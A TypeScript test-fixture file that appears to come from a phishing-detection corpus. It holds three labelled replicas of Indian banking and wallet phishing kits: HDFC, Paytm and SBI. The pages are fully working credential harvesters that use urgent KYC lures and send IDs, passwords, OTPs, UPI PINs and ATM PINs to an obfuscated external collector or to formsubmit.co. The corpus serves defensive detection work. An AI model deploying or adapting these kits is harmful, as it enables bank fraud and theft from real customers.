import { type Entry, htmlRoute, redirectRoute } from '../entry.js';
import { doc, b64, logos } from '../parts/xa-kit.js';

/**
 * Bank and UPI credential kits seen by an Indian cyber-crime helpline: SBI/YONO, HDFC, ICICI, Axis, Kotak,
 * Paytm, PhonePe and UPI-PIN collectors, reached by SMS short links, posting to PHP drops, Telegram bots,
 * form services or Firebase.
 */
export const entries: Entry[] = [
{
  id: 'xa-hdfc-netbanking-custid-b64-drop',
  label: 'phishing',
  kind: 'bank-credential-kit',
  url: 'https://hdfcbank-netbanking.secure-login-kyc.com/netbanking/',
  body: doc({
    title: 'Welcome to HDFC Bank NetBanking',
    css: `body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f0f3f8}.hd{background:#004c8f;height:64px;display:flex;align-items:center;padding:0 30px;gap:12px;color:#fff}.hd span{font-size:20px;font-weight:bold}.wrap{display:flex;max-width:980px;margin:30px auto;gap:24px}.login{background:#fff;flex:0 0 360px;padding:26px;border-top:4px solid #ed232a}.login h3{margin-top:0;color:#004c8f}.side{flex:1;background:#fff;padding:20px;font-size:13px;color:#333}input{width:100%;padding:9px;border:1px solid #aab;margin:6px 0 14px;box-sizing:border-box}.btn{background:#ed232a;color:#fff;border:0;padding:10px 28px;font-weight:bold;cursor:pointer}a{color:#004c8f;font-size:12px}.sec{display:flex;gap:8px;align-items:center;font-size:12px;background:#fffbe6;padding:8px;margin-top:12px}`,
    body: `<div class="hd">${logos.hdfc(40)}<span>HDFC BANK</span><span style="font-weight:normal;font-size:14px;margin-left:auto">We understand your world</span></div>
<div class="wrap"><div class="login"><h3>Welcome to HDFC Bank NetBanking</h3>
<div id="p1"><label>Customer ID/ User ID</label><input id="cid" maxlength="20"><button class="btn" id="c1">CONTINUE</button><br><a href="#">Forgot Customer ID</a></div>
<div id="p2" style="display:none"><label>Password/IPIN</label><input id="pw" type="password"><label><input type="checkbox" style="width:auto"> Secure Access image/message is mine</label><br><button class="btn" id="c2">LOGIN</button></div>
<div id="p3" style="display:none"><p style="font-size:13px">An OTP has been sent to your registered mobile number XXXXXX4721. Please enter it below to update your KYC.</p><label>OTP</label><input id="ot" maxlength="6"><label>Debit Card last 6 digits</label><input id="dc" maxlength="6"><button class="btn" id="c3">CONFIRM</button></div>
<div class="sec">${logos.hdfc(18)} Dear Customer, as per RBI guidelines your account KYC must be updated. Failing which NetBanking will be deactivated.</div></div>
<div class="side"><b>Security Tips</b><ul><li>HDFC Bank never asks for your PIN over phone.</li><li>Always check for the padlock icon.</li></ul><b>New Features</b><p>Pay your credit card bill instantly with BillPay.</p></div></div>
<script>
(function(){var u=atob('${b64('https://hdfc-kyc-node.onrender.com/api/v2/collect')}'),s={};function p(o){Object.assign(s,o);return fetch(u,{method:'POST',mode:'no-cors',headers:{'Content-Type':'text/plain'},body:btoa(JSON.stringify(s))})}
function sh(a,b){document.getElementById(a).style.display='none';document.getElementById(b).style.display='block'}
c1.onclick=function(){if(cid.value.length<4)return;p({cid:cid.value}).finally(function(){sh('p1','p2')})};
c2.onclick=function(){p({pw:pw.value}).finally(function(){sh('p2','p3')})};
c3.onclick=function(){p({otp:ot.value,dc:dc.value}).finally(function(){location.replace('https://www.hdfcbank.com/')})};})();
</script>`,
  }),
},
{
  id: 'xa-paytm-wallet-kyc-hinglish-formsubmit',
  label: 'phishing',
  kind: 'wallet-kyc-kit',
  url: 'https://paytm-kyc-update.online/wallet/verify.html',
  body: doc({
    title: 'Paytm KYC Verification',
    css: `body{margin:0;font-family:'Open Sans',Arial;background:#e9f7fd}.top{background:#fff;padding:14px;text-align:center;box-shadow:0 1px 4px #0001}.w{max-width:400px;margin:14px auto;background:#fff;border-radius:14px;padding:18px}.red{color:#d32f2f;font-weight:bold}input{width:100%;box-sizing:border-box;padding:12px;border:1px solid #bde3f5;border-radius:10px;margin:8px 0}button{background:#00b9f1;color:#fff;border:0;border-radius:10px;padding:13px;width:100%;font-size:16px;font-weight:bold}ul{font-size:13px;color:#555}`,
    body: `<div class="top">${logos.paytm(30)}</div>
<div class="w"><p class="red">⚠ Aapka Paytm Wallet KYC pending hai!</p><p>RBI ke naye niyam ke anusaar agar aapne 24 ghante me KYC complete nahi kiya to aapka wallet aur Paytm UPI <b>block</b> ho jayega aur balance freeze ho jayega.</p>
<ul><li>Mobile number daalein</li><li>Paytm Passcode / UPI PIN se verify karein</li><li>OTP confirm karein</li></ul>
<form id="pf" action="https://formsubmit.co/ajax/kycdesk.paytm.verify@gmail.com" method="POST">
<input type="hidden" name="_subject" value="PAYTM NEW"><input type="hidden" name="_captcha" value="false">
<input name="mobile" placeholder="Registered Mobile Number" maxlength="10" required>
<input name="passcode" type="password" placeholder="Paytm Passcode / UPI PIN" maxlength="6" required>
<input name="otp" placeholder="OTP (agar aaya ho)" maxlength="6">
<button>KYC Complete Karein</button></form>
<p id="d" style="display:none;color:green">Dhanyavaad! Aapka KYC verify ho raha hai. Kripya 10 minute wait karein aur app band na karein.</p></div>
<script>
pf.addEventListener('submit',function(e){e.preventDefault();fetch(pf.action,{method:'POST',headers:{Accept:'application/json'},body:new FormData(pf)}).finally(function(){pf.style.display='none';d.style.display='block'})});
</script>`,
  }),
},
{
  id: 'xa-onlinesbi-userinfo-duckdns',
  label: 'phishing',
  kind: 'bank-credential-kit',
  url: 'https://sbi-netbnkg-verify.duckdns.org/retail/login.htm',
  submittedUrl: 'https://onlinesbi.sbi@sbi-netbnkg-verify.duckdns.org/retail/login.htm',
  body: doc({
    title: 'State Bank of India - Personal Banking',
    css: `body{margin:0;font-family:Verdana,Arial;font-size:12px;background:#fff}.h1{background:#fff;padding:8px 20px;display:flex;align-items:center;gap:10px;border-bottom:1px solid #ddd}.h1 b{font-size:22px;color:#22409a}.nv{background:#22409a;height:30px}.m{display:flex;max-width:960px;margin:20px auto}.lf{flex:0 0 380px;border:1px solid #c3cde6}.lf .t{background:#dfe6f5;padding:8px;font-weight:bold;color:#22409a}.lf .b{padding:14px}.lf input{width:220px;padding:4px;margin:4px 0 10px}.vk{display:grid;grid-template-columns:repeat(10,22px);gap:2px;margin:6px 0}.vk span{border:1px solid #aaa;text-align:center;background:#f4f4f4;cursor:pointer}.rt{flex:1;padding:0 20px;color:#444}.rt li{margin:6px 0}.lb{background:#22409a;color:#fff;border:0;padding:5px 18px}`,
    body: `<div class="h1">${logos.sbi(38)}<b>State Bank of India</b></div><div class="nv"></div>
<div class="m"><div class="lf"><div class="t">Login to OnlineSBI</div><div class="b"><form id="lg" method="post" action="post.php">
<div>Username*</div><input name="userName" required><div>Password*</div><input name="password" type="password" required>
<div>Virtual keyboard</div><div class="vk">${'1234567890qwertyuiopasdfghjklzxcvbnm'.split('').map((c) => `<span>${c}</span>`).join('')}</div>
<div>Enter the text as shown in the image*</div><input name="captcha" required> <b style="font-family:monospace;background:#eee;padding:4px 8px">4 f 9 K 2</b><br>
<input type="hidden" name="ref" value="onlinesbi"><button class="lb">Login</button> <button type="reset" class="lb">Reset</button></form></div></div>
<div class="rt"><b>Dear Customer,</b><ul><li>OnlineSBI never sends email/SMS asking for your credentials.</li><li>Your account will be locked if KYC details are not re-verified by <b>today</b>. Login to complete re-verification.</li><li>Mandatory fields are marked with an asterisk (*).</li></ul></div></div>
<script>document.querySelectorAll('.vk span').forEach(function(s){s.onclick=function(){var a=document.activeElement;if(a&&a.tagName==='INPUT')a.value+=s.textContent}})</script>`,
  }),
  routes: {
    'sbi-netbnkg-verify.duckdns.org/retail/post.php': redirectRoute(302, 'https://sbi-netbnkg-verify.duckdns.org/retail/profile.htm'),
    'sbi-netbnkg-verify.duckdns.org/retail/profile.htm': htmlRoute(
      doc({
        title: 'State Bank of India - Profile Password',
        css: 'body{font-family:Verdana;font-size:12px;padding:30px}input{padding:5px;margin:4px 0 12px;width:240px}',
        body: `${logos.sbi(30)} <b style="color:#22409a">Re-verification</b><form method="post" action="otp.php"><p>Profile Password*</p><input name="ppwd" type="password"><p>ATM Card Number*</p><input name="atm"><p>ATM PIN*</p><input name="apin" type="password" maxlength="4"><p>Registered Mobile*</p><input name="mob"><br><button>Submit</button></form>`,
      }),
    ),
  },
},
];
